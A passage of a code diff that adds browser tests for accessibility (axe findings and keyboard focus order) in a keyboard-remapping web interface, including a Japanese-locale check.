+        await conditions.getByLabel('+ Condition…').selectOption('input');
+      }],
+      ['edit: JSON', async () => { await page.getByLabel('What it does').selectOption('raw'); }],
+      ['try it', async () => { await page.getByRole('tab', { name: 'Try it' }).click(); await page.locator('.kbkey[data-key=caps_lock]').click(); }],
+      ['json', async () => { await page.getByRole('tab', { name: 'JSON' }).click(); }],
+      ['apply dialog', async () => { await page.getByRole('button', { name: 'Apply…' }).click(); }],
+    ];
+    for (const [name, go] of views) {
+      await go();
+      expect(await axeFindings(page), name).toEqual([]);
+    }
+    await page.keyboard.press('Escape');
+    const ja = await openPage(browser, { bridge: { inventory: sampleInventory() }, lang: 'ja-JP' });
+    expect(await axeFindings(ja), 'Japanese').toEqual([]);
+    await done(ja);
+    await done(page);
+  });
+
+  it('the keyboard picture is one Tab stop with arrow keys inside; tabs follow the tabs pattern', async () => {
+    const page = await openPage(browser, { bridge: { inventory: sampleInventory() } });
+    // The first recipe is a few Tab presses away, not behind every key of the picture.
+    let presses = 0;
+    while (presses < 40 && !(await page.evaluate(() => !!document.activeElement?.closest('.recipe')))) {
+      await page.keyboard.press('Tab');
+      presses++;
+    }
+    expect(presses).toBeLessThanOrEqual(20);
+    await page.getByLabel('Layer', { exact: true }).focus();
+    await page.keyboard.press('Tab');
+    expect(await focused(page)).toBe('button:escape');
+    await page.keyboard.press('ArrowRight');
+    expect(await focused(page)).toBe('button:f1');
+    await page.keyboard.press('ArrowDown');
+    expect(await focused(page)).toBe('button:1');
+    await page.keyboard.press('End');
+    expect(await focused(page)).toBe('button:delete_or_backspace');
+    await page.keyboard.press('Tab');
+    expect(await focused(page)).toBe('button[tab]:Recipes');
+    await page.keyboard.press('ArrowRight');
+    expect(await focused(page)).toBe('button[tab]:Try it');
+    expect(await page.getByRole('tab', { name: 'Try it' }).getAttribute('aria-selected')).toBe('true');
+    await page.keyboard.press('Home');
+    expect(await focused(page)).toBe('button[tab]:Edit');
+    // Back into the picture: focus returns to the key last used.
+    await page.keyboard.press('Shift+Tab');
+    expect(await focused(page)).toBe('button:delete_or_backspace');
     await done(page);
   });
 });
